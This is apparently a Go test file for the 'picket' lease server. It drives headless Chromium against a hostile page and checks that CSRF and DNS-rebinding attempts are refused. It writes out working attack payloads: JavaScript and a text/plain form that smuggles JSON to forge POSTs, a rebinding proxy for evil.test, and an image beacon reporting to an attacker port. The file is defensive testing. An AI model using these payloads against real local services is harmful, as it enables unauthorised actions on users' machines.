package httpapi_test

import (
	"bufio"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/http/httptest"
	"os"
	"os/exec"
	"strings"
	"sync"
	"syscall"
	"testing"
	"time"

	"github.com/picketlock/picket/lease"
)

// seen is one request the picket server answered, as the browser test
// records it.
type seen struct {
	method, path, host, origin, ctype string
	status                            int
}

// recorder wraps the picket server and records every request it answers.
type recorder struct {
	h  http.Handler
	mu sync.Mutex
	rs []seen
}

type statusWriter struct {
	http.ResponseWriter
	status int
}

func (w *statusWriter) WriteHeader(code int) {
	w.status = code
	w.ResponseWriter.WriteHeader(code)
}

func (rec *recorder) ServeHTTP(w http.ResponseWriter, r *http.Request) {
	sw := &statusWriter{ResponseWriter: w, status: 200}
	rec.h.ServeHTTP(sw, r)
	rec.mu.Lock()
	defer rec.mu.Unlock()
	rec.rs = append(rec.rs, seen{r.Method, r.URL.Path, r.Host, r.Header.Get("Origin"), r.Header.Get("Content-Type"), sw.status})
}

func (rec *recorder) requests() []seen {
	rec.mu.Lock()
	defer rec.mu.Unlock()
	return append([]seen(nil), rec.rs...)
}

// chromium finds a headless Chromium: $PICKET_CHROMIUM, or chromium on the
// PATH (.ci/chromium installs Debian's). Without one the test is skipped,
// unless PICKET_REQUIRE_CHROMIUM=1 (CI), where it fails.
func chromium(t *testing.T) string {
	t.Helper()
	if p := os.Getenv("PICKET_CHROMIUM"); p != "" {
		return p
	}
	for _, name := range []string{"chromium", "chromium-browser", "google-chrome"} {
		if p, err := exec.LookPath(name); err == nil {
			return p
		}
	}
	if os.Getenv("PICKET_REQUIRE_CHROMIUM") == "1" {
		t.Fatal("no chromium on PATH and PICKET_REQUIRE_CHROMIUM=1: run .ci/chromium")
	}
	t.Skip("no chromium on PATH (.ci/chromium installs it)")
	return ""
}

// rebinder plays a name that an attacker rebinds to 127.0.0.1: a
// connection whose first request is for "/" gets the attacker's page, as
// from the attacker's own server before the rebinding; every other
// connection reaches the picket server at target, byte for byte, Host
// header and all, as after it. Chromium maps the name to this listener.
func rebinder(t *testing.T, page, target string) string {
	t.Helper()
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	var wg sync.WaitGroup
	t.Cleanup(func() {
		ln.Close()
		wg.Wait()
	})
	var conns sync.Map
	t.Cleanup(func() {
		conns.Range(func(k, _ any) bool {
			k.(net.Conn).Close()
			return true
		})
	})
	wg.Go(func() {
		for {
			c, err := ln.Accept()
			if err != nil {
				return
			}
			conns.Store(c, true)
			wg.Go(func() {
				defer c.Close()
				br := bufio.NewReader(c)
				req, err := http.ReadRequest(br)
				if err != nil {
					return
				}
				if req.URL.Path == "/" {
					fmt.Fprintf(c, "HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nContent-Length: %d\r\nConnection: close\r\n\r\n%s", len(page), page)
					return
				}
				p, err := net.Dial("tcp", target)
				if err != nil {
					return
				}
				conns.Store(p, true)
				defer p.Close()
				if err := req.Write(p); err != nil {
					return
				}
				go func() { _, _ = io.Copy(p, br) }()
				_, _ = io.Copy(c, p)
			})
		}
	})
	return ln.Addr().String()
}

// TestBrowserAttacks runs a real headless Chromium against a picket server
// on 127.0.0.1. It loads a hostile page served from another loopback port,
// which tries both ways in:
//
//   - CSRF: a no-cors fetch and a text/plain form, each POSTing a 24 h
//     acquire to the picket server (what got a lease before);
//   - DNS rebinding: an iframe from evil.test (mapped to 127.0.0.1 with
//     --host-resolver-rules) whose page, once its name points at the picket
//     server, reads the leases and POSTs an acquire as same-origin requests.
//
// Both are blocked: every request the browser got to the server is answered
// 403 or 415, and the server holds no lease. The recorded requests show the
// attacks really reached the server (the test is not passing for want of
// an attack); TestWebPageRequests' control shows the same requests in a
// client's shape are granted.
func TestBrowserAttacks(t *testing.T) {
	bin := chromium(t)
	e := newEnv(t)
	rec := &recorder{h: e.srv}
	picket := httptest.NewServer(rec)
	defer picket.Close()
	target := strings.TrimPrefix(picket.URL, "http://")

	reports := make(chan string, 16)
	evilPage := `<!doctype html><title>rebound</title><script>
const report = (what) => { new Image().src = "http://127.0.0.1:ATTACKER/report?" + what; };
fetch("/v1/leases").then(r => report("rebind-get-" + r.status), () => report("rebind-get-error"));
fetch("/v1/acquire", {method: "POST", headers: {"Content-Type": "application/json"},
	body: JSON.stringify({name: "rebound", ttl_ms: 86400000})})
	.then(r => report("rebind-post-" + r.status), () => report("rebind-post-error"));
</script>`
	// The attacker's server listens first: the rebound page reports to it.
	attackerLn, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	_, attackerPort, _ := net.SplitHostPort(attackerLn.Addr().String())
	evil := rebinder(t, strings.ReplaceAll(evilPage, "ATTACKER", attackerPort), target)
	_, evilPort, _ := net.SplitHostPort(evil)
	hostile := strings.NewReplacer("PICKET", target, "REBINDER", evilPort).Replace(`<!doctype html><title>hostile</title>
<iframe name="sink"></iframe>
<form id="f" method="POST" enctype="text/plain" action="http://PICKET/v1/acquire" target="sink">
<input name='{"name":"csrf-form","ttl_ms":86400000,"owner":"' value='"}'></form>
<script>
const report = (what) => { new Image().src = "/report?" + what; };
fetch("http://PICKET/v1/acquire", {method: "POST", mode: "no-cors", headers: {"Content-Type": "text/plain"},
	body: '{"name":"csrf-fetch","ttl_ms":86400000}'}).then(() => report("fetch"), () => report("fetch-error"));
document.querySelector("iframe[name=sink]").onload = () => report("form");
document.getElementById("f").submit();
</script>
<iframe src="http://evil.test:REBINDER/"></iframe>`)
	attacker := httptest.NewUnstartedServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		switch r.URL.Path {
		case "/":
			w.Header().Set("Content-Type", "text/html")
			_, _ = io.WriteString(w, hostile)
		case "/report":
			select {
			case reports <- r.URL.RawQuery:
			default:
			}
		}
	}))
	attacker.Listener.Close()
	attacker.Listener = attackerLn
	attacker.Start()
	defer attacker.Close()
	page := attacker.URL + "/"

	profile := t.TempDir()
	cmd := exec.Command(bin, "--headless=new", "--no-sandbox", "--disable-gpu", "--disable-dev-shm-usage",
		"--no-first-run", "--no-default-browser-check", "--disable-background-networking",
		"--disable-component-update", "--disable-sync", "--user-data-dir="+profile,
		"--host-resolver-rules=MAP evil.test 127.0.0.1:"+evilPort, page)
	cmd.SysProcAttr = &syscall.SysProcAttr{Setpgid: true} // its helpers too end with it
	var out strings.Builder
	cmd.Stdout, cmd.Stderr = &out, &out
	if err := cmd.Start(); err != nil {
		t.Fatal(err)
	}
	exited := make(chan struct{})
	go func() {
		_ = cmd.Wait()
		close(exited)
	}()
	defer func() {
		_ = syscall.Kill(-cmd.Process.Pid, syscall.SIGKILL) // the group of the process started above
		<-exited
	}()

	want := map[string]bool{"fetch": false, "form": false, "rebind-get": false, "rebind-post": false}
	var got []string
	deadline := time.After(60 * time.Second)
wait:
	for {
		done := true
		for _, ok := range want {
			done = done && ok
		}
		if done {
			break
		}
		select {
		case r := <-reports:
			got = append(got, r)
			for k := range want {
				if strings.HasPrefix(r, k) {
					want[k] = true
				}
			}
		case <-exited:
			t.Fatalf("chromium exited early; reports %v:\n%s", got, out.String())
		case <-deadline:
			break wait
		}
	}
	t.Logf("the page reported %v", got)
	for k, ok := range want {
		if !ok {
			t.Errorf("the page never reported %q (chromium output:\n%s)", k, out.String())
		}
	}

	var csrf, rebound int
	for _, r := range rec.requests() {
		t.Logf("picket saw %s %s Host=%q Origin=%q Content-Type=%q: %d", r.method, r.path, r.host, r.origin, r.ctype, r.status)
		if r.status != http.StatusForbidden && r.status != http.StatusUnsupportedMediaType {
			t.Errorf("%s %s from the browser answered %d", r.method, r.path, r.status)
		}
		switch {
		case strings.HasPrefix(r.host, "evil.test"):
			rebound++
		case r.method == http.MethodPost:
			csrf++
		}
	}
	if csrf < 2 || rebound < 2 {
		t.Errorf("the server saw %d CSRF POSTs and %d rebound requests, want at least 2 of each: the attacks did not run", csrf, rebound)
	}
	page2, err := e.store.List(t.Context(), lease.ListRequest{})
	if err != nil {
		t.Fatal(err)
	}
	if len(page2.Leases) != 0 {
		t.Errorf("the hostile page got leases: %+v", page2.Leases)
	}
}
